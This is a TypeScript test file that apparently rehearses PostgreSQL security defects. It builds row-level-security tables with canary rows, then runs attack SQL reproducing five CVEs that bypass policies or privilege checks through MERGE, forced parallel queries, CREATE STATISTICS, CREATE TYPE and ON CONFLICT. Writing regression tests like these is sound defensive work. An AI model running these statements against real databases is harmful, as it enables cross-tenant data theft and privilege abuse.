/** Commands that forget a policy or a privilege, or run as somebody else than the session says. */

import {
  attack,
  attacker,
  canary,
  context,
  control,
  platform,
  schemas,
  type QuotedRoles,
  type Rehearsal,
} from './rehearsal.ts'

/** A table with one row of ours and one of theirs; anybody may send in rows, nobody may hand over own ones. */
function mailbox({ app }: QuotedRoles) {
  return context(
    `CREATE TABLE ${platform}.notes (id int PRIMARY KEY, tenant text, note text)`,
    `INSERT INTO ${platform}.notes VALUES (1, 'ours', 'own'), (2, 'theirs', '${canary}')`,
    `ALTER TABLE ${platform}.notes ENABLE ROW LEVEL SECURITY, FORCE ROW LEVEL SECURITY`,
    `CREATE POLICY reads ON ${platform}.notes FOR SELECT USING (tenant = 'ours')`,
    `CREATE POLICY sends ON ${platform}.notes FOR INSERT WITH CHECK (true)`,
    `CREATE POLICY changes ON ${platform}.notes FOR UPDATE USING (tenant = 'ours') WITH CHECK (tenant = 'ours')`,
    `GRANT SELECT, INSERT, UPDATE ON ${platform}.notes TO ${app}`,
  )
}

export const missingChecks: readonly Rehearsal[] = [
  {
    defect: 'CVE-2023-39418',
    path: 'MERGE',
    since: 150_000,
    leak: 'success',
    script: (roles) => [
      ...schemas(roles),
      ...mailbox(roles),
      ...context(`SET LOCAL SESSION AUTHORIZATION ${roles.app}`),
      control(`SELECT * FROM ${platform}.notes`),
      attack(`MERGE INTO ${platform}.notes AS note USING (SELECT 1 AS id) AS mine ON note.id = mine.id
        WHEN MATCHED THEN UPDATE SET tenant = 'theirs'`),
    ],
  },
  {
    defect: 'CVE-2024-10978',
    path: 'SET ROLE, parallel',
    leak: 'canary',
    script: (roles) => [
      ...schemas(roles),
      ...context(
        `CREATE TABLE ${platform}.notes (note text, tenant text)`,
        `INSERT INTO ${platform}.notes VALUES ('${canary}', 'none'), ('own', ${roles.appText})`,
        `ALTER TABLE ${platform}.notes ENABLE ROW LEVEL SECURITY, FORCE ROW LEVEL SECURITY`,
        `CREATE POLICY own ON ${platform}.notes USING (current_setting('role') = tenant)`,
        `GRANT SELECT ON ${platform}.notes TO ${roles.app}`,
        `SET LOCAL ROLE ${roles.app}`,
      ),
      control(`SELECT note FROM ${platform}.notes`),
      // Renamed in 16. It makes one worker do the whole query, so that the leader cannot take the row.
      ...context(`SELECT set_config(name, 'on', true) FROM pg_settings
        WHERE name IN ('force_parallel_mode', 'debug_parallel_query')`),
      attack(`SELECT note FROM ${platform}.notes`),
    ],
  },
  {
    defect: 'CVE-2025-12817',
    path: 'CREATE STATISTICS',
    leak: 'success',
    script: (roles) => [
      ...schemas(roles),
      ...context(
        `SET LOCAL SESSION AUTHORIZATION ${roles.app}`,
        `CREATE TABLE ${attacker}.own (a int, b int)`,
        `CREATE STATISTICS ${attacker}.allowed ON a, b FROM ${attacker}.own`,
      ),
      control(
        `SELECT stxname FROM pg_statistic_ext WHERE stxnamespace = '${attacker}'::regnamespace`,
      ),
      attack(`CREATE STATISTICS ${platform}.forbidden ON a, b FROM ${attacker}.own`),
    ],
  },
  {
    defect: 'CVE-2026-6472',
    path: 'CREATE TYPE',
    leak: 'success',
    script: (roles) => [
      ...schemas(roles),
      ...context(
        `SET LOCAL SESSION AUTHORIZATION ${roles.app}`,
        `CREATE TYPE ${attacker}.allowed AS RANGE (SUBTYPE = int)`,
      ),
      control(`SELECT typname FROM pg_type WHERE typnamespace = '${attacker}'::regnamespace`),
      attack(
        `CREATE TYPE ${attacker}.span AS RANGE (SUBTYPE = int, MULTIRANGE_TYPE_NAME = ${platform}.forbidden)`,
      ),
    ],
  },
  {
    defect: 'CVE-2026-120154',
    path: 'ON CONFLICT',
    leak: 'canary',
    script: (roles) => [
      ...schemas(roles),
      ...mailbox(roles),
      ...context(
        `SET LOCAL SESSION AUTHORIZATION ${roles.app}`,
        `CREATE FUNCTION ${attacker}.curious(text) RETURNS boolean LANGUAGE plpgsql AS $$ BEGIN
          RAISE EXCEPTION 'the hidden row says %', $1; END $$`,
      ),
      control(`SELECT * FROM ${platform}.notes`),
      attack(`INSERT INTO ${platform}.notes AS note VALUES (2, 'ours', 'own')
        ON CONFLICT (id) DO UPDATE SET note = 'own' WHERE ${attacker}.curious(note.note)`),
    ],
  },
]
